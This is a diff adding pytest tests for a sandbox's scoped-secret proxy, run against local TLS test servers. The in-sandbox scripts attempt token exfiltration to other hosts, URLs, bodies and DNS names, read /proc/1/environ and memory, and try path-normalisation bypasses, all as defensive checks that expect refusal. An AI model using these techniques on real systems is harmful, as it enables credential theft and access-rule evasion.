@@ -1,0 +1,388 @@
+"""Scoped credentials and request-level rules (issue 18, docs/secrets.md),
+against TLS upstreams in network namespaces this module builds.
+
+The upstreams (in `brig-t-<tag>`, reached over a veth from the client
+namespace where brig runs, as test_egress_netns.py does it) log every
+request they receive — method, path, headers, body — as JSON lines, so each
+test asserts on the host side what really arrived:
+  - :443  HTTPS, a certificate for api.test and other.test (the test's CA)
+  - :8443 HTTPS, a certificate for evil.test only
+  - :80   plain HTTP
+Endpoints: /whoami (200 "hi"), /echo (the Authorization header back),
+/redirect (302 to http://other.test/collect), /repo.git/... (git's dumb
+HTTP, behind Basic auth with the real token), anything else 200 "ok".
+
+The secret's real value is random per module; the sandbox must only ever
+hold `brig-secret-API_TOKEN-<token>`."""
+import base64
+import json
+import os
+import pathlib
+import re
+import secrets
+import shutil
+import subprocess
+
+import pytest
+
+from conftest import IS_ROOT
+from test_escape import attack
+from test_egress_netns import PY, InClientNamespace, namespaces_up, sh
+
+SERVER = r'''
+import base64, http.server, json, os, ssl, sys, threading
+root, log_path, ca_dir, value = sys.argv[1:5]
+lock = threading.Lock()
+log = open(log_path, "a", buffering=1)
+token = base64.b64encode(b"x-access-token:" + value.encode()).decode()
+
+class H(http.server.SimpleHTTPRequestHandler):
+    protocol_version = "HTTP/1.1"
+    def __init__(self, *a, **kw):
+        super().__init__(*a, directory=root, **kw)
+    def log_message(self, *a):
+        pass
+    def note(self, body=b""):
+        with lock:
+            log.write(json.dumps({"port": self.server.server_port, "method": self.command, "path": self.path,
+                                  "headers": dict(self.headers), "body": body.decode(errors="replace")}) + "\n")
+    def reply(self, code, body, extra=()):
+        self.send_response(code)
+        for k, v in extra:
+            self.send_header(k, v)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        if self.command != "HEAD":
+            self.wfile.write(body)
+    def handle_any(self):
+        n = int(self.headers.get("Content-Length") or 0)
+        body = self.rfile.read(n) if n else b""
+        self.note(body)
+        p = self.path
+        if p.startswith("/repo.git"):
+            if self.headers.get("Authorization") != "Basic " + token:
+                return self.reply(401, b"auth\n", [("WWW-Authenticate", 'Basic realm="git"')])
+            return super().do_GET()
+        if p == "/echo":
+            return self.reply(200, (self.headers.get("Authorization") or "").encode())
+        if p == "/redirect":
+            return self.reply(302, b"", [("Location", "http://other.test/collect")])
+        if p == "/big":
+            data = b"x" * (1 << 20)
+            return self.reply(200, data)
+        return self.reply(200, b"hi\n" if p == "/whoami" else b"ok\n")
+    do_GET = do_POST = do_PUT = do_DELETE = do_HEAD = handle_any
+
+class S(http.server.ThreadingHTTPServer):
+    daemon_threads = True
+
+def tls(port, name):
+    s = S(("0.0.0.0", port), H)
+    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    ctx.load_cert_chain(f"{ca_dir}/{name}.pem", f"{ca_dir}/{name}.key")
+    s.socket = ctx.wrap_socket(s.socket, server_side=True)
+    return s
+
+for s in (S(("0.0.0.0", 80), H), tls(443, "api"), tls(8443, "evil")):
+    threading.Thread(target=s.serve_forever, daemon=True).start()
+print("READY", flush=True)
+threading.Event().wait()
+'''
+
+
+class Upstreams:
+    """Two namespaces and a veth (as test_egress_netns.Netns), the TLS
+    servers above, their request log."""
+
+    def __init__(self, tmp):
+        self.tmp = tmp
+        tag = secrets.token_hex(3)
+        self.name, self.client = f"brig-t-{tag}", f"brig-t-{tag}-c"
+        self.veth_host, self.veth_ns = f"bs{tag}h", f"bs{tag}n"
+        x = secrets.randbelow(254) + 1
+        self.host_addr, self.addr = f"198.18.{x}.1", f"198.18.{x}.2"
+        self.log = tmp / "requests.log"
+        self.log.touch()
+        self.value = "real-" + secrets.token_hex(16)
+        self.secret_file = tmp / "token.txt"
+        self.secret_file.write_text(self.value + "\n")
+        self.secret_file.chmod(0o644)
+        self.proc = None
+        self.made = []
+
+    def up(self):
+        sh("ip", "netns", "add", self.name)
+        self.made.append(self.name)
+        sh("ip", "netns", "add", self.client)
+        self.made.append(self.client)
+        cl, ns = ["ip", "-n", self.client], ["ip", "-n", self.name]
+        sh(*cl, "link", "add", self.veth_host, "type", "veth", "peer", "name", self.veth_ns)
+        sh(*cl, "link", "set", self.veth_ns, "netns", self.name)
+        sh(*cl, "link", "set", "lo", "up")
+        sh(*cl, "addr", "add", f"{self.host_addr}/30", "dev", self.veth_host)
+        sh(*cl, "link", "set", self.veth_host, "up")
+        sh(*ns, "link", "set", "lo", "up")
+        sh(*ns, "addr", "add", f"{self.addr}/30", "dev", self.veth_ns)
+        sh(*ns, "link", "set", self.veth_ns, "up")
+        t = self.tmp
+        ec = ["-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes"]
+        sh("openssl", "req", "-x509", *ec, "-keyout", t / "ca.key", "-out", t / "ca.pem", "-days", "2",
+           "-subj", "/CN=brig secrets test CA", "-addext", "basicConstraints=critical,CA:TRUE",
+           "-addext", "keyUsage=critical,keyCertSign,cRLSign")
+        for name, sans in (("api", "DNS:api.test,DNS:other.test"), ("evil", "DNS:evil.test")):
+            sh("openssl", "req", *ec, "-keyout", t / f"{name}.key", "-out", t / f"{name}.csr", "-subj",
+               f"/CN={name}.test")
+            (t / f"{name}.cnf").write_text("basicConstraints=CA:FALSE\nkeyUsage=critical,digitalSignature\n"
+                                           f"extendedKeyUsage=serverAuth\nsubjectAltName={sans}\n")
+            sh("openssl", "x509", "-req", "-in", t / f"{name}.csr", "-CA", t / "ca.pem", "-CAkey", t / "ca.key",
+               "-CAcreateserial", "-out", t / f"{name}.pem", "-days", "2", "-extfile", t / f"{name}.cnf")
+        (t / "ca.pem").chmod(0o644)
+        www = t / "www"
+        www.mkdir()
+        env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(t), "GIT_CONFIG_NOSYSTEM": "1"}
+        git = ["git", "-c", "user.name=brig", "-c", "user.email=brig@api.test", "-c", "init.defaultBranch=main"]
+        sh(*git, "init", "-q", t / "work", env=env)
+        (t / "work" / "README").write_text("cloned with a scoped token\n")
+        sh(*git, "-C", t / "work", "add", "README", env=env)
+        sh(*git, "-C", t / "work", "commit", "-q", "-m", "one", env=env)
+        sh(*git, "clone", "-q", "--bare", t / "work", www / "repo.git", env=env)
+        sh("git", "-C", www / "repo.git", "update-server-info", env=env)
+        (t / "server.py").write_text(SERVER)
+        self.proc = subprocess.Popen(["ip", "netns", "exec", self.name, PY, str(t / "server.py"), str(www),
+                                      str(self.log), str(t), self.value],
+                                     stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+        if self.proc.stdout.readline().strip() != "READY":
+            raise RuntimeError(f"upstream did not start: {self.proc.stderr.read()[-2000:]}")
+        # the veth's carrier comes up asynchronously: wait for a real answer
+        sh("ip", "netns", "exec", self.client, "curl", "-s", "--noproxy", "*", "--retry", "50",
+           "--retry-connrefused", "--retry-delay", "0", "--retry-max-time", "10", "-m", "2",
+           f"http://{self.addr}/ready")
+
+    def down(self):
+        if self.proc is not None and self.proc.poll() is None:
+            self.proc.kill()
+            self.proc.wait()
+        for n in reversed(self.made):
+            subprocess.run(["ip", "netns", "del", n], capture_output=True)
+
+    def mark(self):
+        return self.log.stat().st_size
+
+    def seen(self, since):
+        with open(self.log) as f:
+            f.seek(since)
+            return [json.loads(line) for line in f.read().splitlines()]
+
+    def args(self, *extra, mode="proxy"):
+        return ["--net", mode, "--allow-cidr", "198.18.0.0/15",
+                "--resolve", f"api.test:{self.addr}", "--resolve", f"other.test:{self.addr}",
+                "--resolve", f"evil.test:{self.addr}",
+                "--allow-host", "api.test", "--allow-host", "api.test:8443", "--allow-host", "other.test",
+                "--secret", f"API_TOKEN=@{self.secret_file}", "--secret-host", "API_TOKEN=api.test",
+                "--upstream-ca", str(self.tmp / "ca.pem"), *extra]
+
+
+@pytest.fixture(scope="module")
+def up():
+    if not IS_ROOT:
+        pytest.skip("SECRETS TESTS NEED ROOT: building a network namespace and a veth pair takes root "
+                    "(the brig under test runs as root and as nobody)")
+    for tool in ("ip", "openssl", "git", "curl", "nsenter"):
+        if not shutil.which(tool):
+            pytest.skip(f"SECRETS TESTS NEED {tool} (scripts/install-deps installs it)")
+    yield from namespaces_up(Upstreams, "brig-secrets-")
+
+
+@pytest.fixture
+def ws(brig, up):
+    return InClientNamespace(brig, up.client)
+
+
+def audited(brig, script, *args, **kw):
+    path = brig.reports / f"audit-{secrets.token_hex(4)}.jsonl"
+    r = brig.sh(script, "--audit", str(path), *args, **kw)
+    events = [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []
+    return r, events, path
+
+
+def placeholder_of(text):
+    m = re.search(r"brig-secret-API_TOKEN-[0-9a-f]{32}", text)
+    assert m, text
+    return m.group(0)
+
+
+def assert_never_leaked(up, r, audit_path):
+    """The value reached nothing of the sandbox's nor the run's records."""
+    assert up.value not in r.stdout and up.value not in r.stderr, r
+    assert up.value not in audit_path.read_text()
+
+
+def test_bound_secret_reaches_its_host_only_over_verified_tls(ws, up):
+    """curl, urllib and requests through CONNECT; the upstream gets the
+    value, the sandbox only ever the placeholder (environment, files,
+    pid 1's memory, the answer of an echoing upstream)."""
+    brig = ws
+    mark = up.mark()
+    script = r'''
+echo "PH=$API_TOKEN"
+curl -sS -H "Authorization: Bearer $API_TOKEN" https://api.test/whoami
+python3 -c '
+import os, urllib.request
+req = urllib.request.Request("https://api.test/whoami", headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]})
+print("urllib", urllib.request.urlopen(req, timeout=20).read().decode(), end="")
+import requests
+s = requests.Session()
+for i in range(2):   # keep-alive: both on one connection
+    print("requests", s.get("https://api.test/whoami", headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]}, timeout=20).text, end="")
+'
+curl -sS -H "Authorization: Bearer $API_TOKEN" https://api.test/echo; echo echo_rc=$?
+# everything the sandbox can read of itself, for the host to search
+cat /run/brig/* /etc/ssl/certs/ca-certificates.crt 2>/dev/null | tail -c 2000
+tr '\0' '\n' < /proc/self/environ
+cat /proc/1/environ >/dev/null 2>&1; echo environ1=$?
+head -c 100000 /proc/1/mem >/dev/null 2>&1; echo mem1=$?
+'''
+    r, ev, path = audited(brig, script, *up.args())
+    ph = placeholder_of(r.stdout)
+    assert "hi\nurllib hi\nrequests hi\nrequests hi\n" in r.stdout, r
+    assert "environ1=1" in r.stdout and "mem1=1" in r.stdout, r
+    assert "BEGIN CERTIFICATE" in r.stdout and f"API_TOKEN={ph}" in r.stdout, r
+    # the upstream echoed the value back: cut before it reached the sandbox
+    assert "echo_rc=18" in r.stdout, r   # curl: the body ended short
+    got = [q for q in up.seen(mark) if q["path"] == "/whoami"]
+    assert len(got) == 4 and all(q["headers"]["Authorization"] == f"Bearer {up.value}" for q in got), got
+    assert not any(ph in json.dumps(q) for q in up.seen(mark)), "the placeholder reached the upstream"
+    cut = [e for e in ev if e.get("phase") == "response" and e.get("secret") == "API_TOKEN"]
+    assert cut, ev
+    assert_never_leaked(up, r, path)
+
+
+def test_placeholder_to_another_host_is_refused_as_exfiltration(ws, up):
+    """Another allowed host (plain http, and https when it is intercepted),
+    the URL, the body, another header, a DNS name: each refused and
+    audited with the secret's name; the upstreams received none of them."""
+    brig = ws
+    mark = up.mark()
+    script = r'''
+A="Authorization: Bearer $API_TOKEN"
+curl -sS -i -H "$A" http://other.test/plain | grep -i '^x-brig-deny'
+curl -sS -i -H "$A" https://other.test/tls | grep -i '^x-brig-deny'
+curl -sS -i "https://api.test/q?key=$API_TOKEN" | grep -i '^x-brig-deny'
+curl -sS -i --data "token=$API_TOKEN" https://api.test/body | grep -i '^x-brig-deny'
+curl -sS -i -H "X-Other: $API_TOKEN" https://api.test/hdr | grep -i '^x-brig-deny'
+curl -sS -i -H "$A" http://api.test/plain-bound | grep -i '^x-brig-deny'
+curl -sS -o /dev/null "https://$API_TOKEN.api.test/"; echo dns_rc=$?
+curl -sS -i -L --location-trusted -H "$A" https://api.test/redirect | grep -i '^x-brig-deny'
+'''
+    r, ev, path = audited(brig, script, *up.args("--http-rule", "other.test * /**"))
+    lines = r.stdout.splitlines()
+    deny = [l for l in lines if l.lower().startswith("x-brig-deny")]
+    assert len(deny) == 7, r
+    assert "other.test:80" in deny[0] and "secret API_TOKEN over plain http" in deny[0], deny
+    assert "secret API_TOKEN to a host it is not bound to" in deny[1], deny
+    assert "secret API_TOKEN in the URL" in deny[2], deny
+    assert "secret API_TOKEN in the request body" in deny[3], deny
+    assert "secret API_TOKEN in header X-Other" in deny[4], deny
+    assert "secret API_TOKEN over plain http" in deny[5], deny
+    assert "dns_rc=56" in r.stdout, r
+    assert "other.test:80" in deny[6], deny   # the redirect's second hop
+    exfil = [e for e in ev if e.get("event") == "net" and e["decision"] == "deny" and "API_TOKEN" in e.get("reason", "")]
+    assert len(exfil) == 8, ev
+    paths = [q["path"] for q in up.seen(mark)]
+    assert paths == ["/redirect"], paths   # the one allowed request; nothing carrying the placeholder
+    assert_never_leaked(up, r, path)
+
+
+def test_unverified_peers_never_get_the_value(ws, up):
+    """A server whose certificate is for another name (--resolve points the
+    bound host at it): 502 with the reason, nothing sent. An address
+    allowed by CIDR with the bound host's SNI: end to end, placeholder only."""
+    brig = ws
+    mark = up.mark()
+    script = r'''
+curl -sS -i -H "Authorization: Bearer $API_TOKEN" https://api.test:8443/whoami | grep -i -e '^HTTP/' -e '^x-brig-deny'
+python3 - "$ADDR" <<'EOF'
+import os, socket, ssl, sys
+s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
+s.sendall(f"CONNECT {sys.argv[1]}:443 HTTP/1.1\r\nHost: {sys.argv[1]}:443\r\n\r\n".encode())
+head = b""
+while b"\r\n\r\n" not in head:
+    head += s.recv(1)
+ctx = ssl.create_default_context(cafile=os.environ["CA"])
+t = ctx.wrap_socket(s, server_hostname="api.test")
+t.sendall(b"GET /cidr HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\nAuthorization: Bearer " + os.environ["API_TOKEN"].encode() + b"\r\n\r\n")
+print("cidr", t.recv(4096).split(b"\r\n")[0].decode())
+EOF
+'''
+    shutil.copy(up.tmp / "ca.pem", brig.workspace / "test-ca.pem")
+    r, ev, path = audited(brig, script, *up.args("--env", f"ADDR={up.addr}", "--env", "CA=test-ca.pem"))
+    assert "HTTP/1.1 502" in r.stdout and "not valid for api.test" in r.stdout, r
+    assert "cidr HTTP/1.1 200 OK" in r.stdout, r
+    seen = up.seen(mark)
+    assert [q["path"] for q in seen] == ["/cidr"], seen
+    assert seen[0]["headers"]["Authorization"].startswith("Bearer brig-secret-API_TOKEN-"), seen
+    tls = [e for e in ev if e.get("phase") == "tls" and e["decision"] == "deny"]
+    assert tls and "not valid for api.test" in tls[0]["reason"], ev
+    assert_never_leaked(up, r, path)
+
+
+def test_git_clone_over_https_with_a_scoped_token(ws, up):
+    """git sends the token as Basic auth (base64): brig decodes, swaps,
+    encodes; the server checks the real token."""
+    brig = ws
+    mark = up.mark()
+    r, ev, path = audited(brig, 'GIT_TERMINAL_PROMPT=0 git clone -q "https://x-access-token:$API_TOKEN@api.test/repo.git" '
+                          '/tmp/c && cat /tmp/c/README /tmp/c/.git/config', *up.args())
+    assert "cloned with a scoped token\n" in r.stdout and "x-access-token:brig-secret-API_TOKEN-" in r.stdout, r
+    auth = [q["headers"].get("Authorization") for q in up.seen(mark)]
+    good = "Basic " + base64.b64encode(b"x-access-token:" + up.value.encode()).decode()
+    assert good in auth, auth
+    assert_never_leaked(up, r, path)
+
+
+def test_http_rules_judge_every_request(ws, up):
+    """Methods and paths, normalisation tricks, keep-alive and pipelining:
+    each request judged; the upstream receives only the allowed ones."""
+    brig = ws
+    mark = up.mark()
+    script = r'''
+for p in /v1/messages /v1/models/a /v1/models/a/b /v1/%2e%2e/admin /v1//messages "/v1/messages;x" /v1%2fmessages /V1/messages /v1/models/../../admin /v1/m%65ssages; do
+  printf '%s ' "$p"; curl -sS -o /dev/null -w '%{http_code}\n' --path-as-is -X POST "https://api.test$p"
+done
+curl -sS -o /dev/null -w 'GET %{http_code}\n' https://api.test/v1/messages
+python3 - <<'EOF'
+import socket, ssl
+s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
+s.sendall(b"CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n")
+head = b""
+while b"\r\n\r\n" not in head:
+    head += s.recv(1)
+t = ssl.create_default_context().wrap_socket(s, server_hostname="api.test")
+# pipelined: an allowed request, then a refused one, then one never read
+t.sendall(b"POST /v1/messages HTTP/1.1\r\nHost: api.test\r\nContent-Length: 2\r\n\r\nhi"
+          b"DELETE /v1/messages HTTP/1.1\r\nHost: api.test\r\n\r\n"
+          b"POST /v1/messages HTTP/1.1\r\nHost: api.test\r\nContent-Length: 0\r\n\r\n")
+out = b""
+while True:
+    d = t.recv(65536)
+    if not d:
+        break
+    out += d
+import re
+print("pipelined", re.findall(r"HTTP/1\.1 \d\d\d|X-Brig-Deny: [^\r]*", out.decode()))
+EOF
+'''
+    r, ev, path = audited(brig, script, *up.args("--http-rule", "api.test POST /v1/messages,/v1/models/*"))
+    codes = dict(l.split(" ", 1) for l in r.stdout.splitlines() if l.startswith("/"))
+    assert codes == {"/v1/messages": "200", "/v1/models/a": "200", "/v1/models/a/b": "403",
+                     "/v1/%2e%2e/admin": "403", "/v1//messages": "403", "/v1/messages;x": "403",
+                     "/v1%2fmessages": "403", "/V1/messages": "403", "/v1/models/../../admin": "403",
+                     "/v1/m%65ssages": "200"}, r
+    assert "GET 403" in r.stdout, r
+    assert "pipelined ['HTTP/1.1 200', 'HTTP/1.1 403', 'X-Brig-Deny: api.test; http_rules for api.test: DELETE " \
+        "/v1/messages matches none of its 1 rule']" in r.stdout, r
+    got = [(q["method"], q["path"]) for q in up.seen(mark)]
+    assert got == [("POST", "/v1/messages"), ("POST", "/v1/models/a"), ("POST", "/v1/m%65ssages"),
+                   ("POST", "/v1/messages")], got
+    denied = [e for e in ev if e.get("phase") == "request" and e["decision"] == "deny"]
+    assert any(e["method"] == "DELETE" and e["path"] == "/v1/messages" for e in denied), denied
